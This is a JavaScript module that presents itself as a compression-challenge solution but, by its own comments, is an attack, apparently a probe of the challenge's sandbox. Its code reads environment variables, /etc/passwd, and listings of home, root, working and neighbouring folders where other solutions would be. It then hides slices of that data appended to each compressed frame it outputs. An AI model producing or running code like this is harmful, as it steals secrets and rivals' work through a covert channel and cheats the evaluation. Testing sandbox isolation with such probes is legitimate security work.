/** Reads what it should not know, and carries it out behind its frames. */
import { attempt, builtin, marked } from './attack.js';
import { compress, decompress } from './codec.js';
import { ownFolder } from './places.js';

const fs = await builtin('fs');
const os = await builtin('os');
const { process } = globalThis;
const bytesOfEach = 16;
/** What every process may know. */
const plainVariable = /^(PATH|HOME|LANG|TZ|PWD|SHLVL|_|NODE_\w+|UV_\w+)=/;
const root = '/';

/** Names in a folder, if they say more than that there is a system, or this solution. */
function names(folder) {
  const found = folder === root ? [] : fs.readdirSync(folder);
  return found.includes('manifest.json') ? '' : found.join();
}

function environment() {
  const variables = fs.readFileSync('/proc/self/environ', 'latin1').split('\0');
  return variables.filter((variable) => variable !== '' && !plainVariable.test(variable)).join();
}

const loot = [];
const take = (read) => () => {
  const taken = read();
  if (taken.length > 0) loot.push(taken.slice(0, bytesOfEach).padEnd(bytesOfEach));
  return taken.length > 0;
};

const worked = await attempt(
  take(() => names(os.homedir())),
  // Where the corpus and other solutions would be.
  take(() => names(process.cwd())),
  take(() => names(ownFolder.replace(/[^/]+\/$/, ''))),
  take(environment),
  take(() => fs.readFileSync('/etc/passwd', 'latin1')),
  take(() => names('/home')),
  take(() => names('/root')),
);
const hidden = Uint8Array.from(loot.join(''), (letter) => letter.charCodeAt(0));

export default {
  create: () => ({
    compress(matrix) {
      const frame = marked(compress(matrix), worked);
      const carrier = new Uint8Array(frame.length + hidden.length);
      carrier.set(frame);
      carrier.set(hidden, frame.length);
      return carrier;
    },
    decompress,
  }),
};
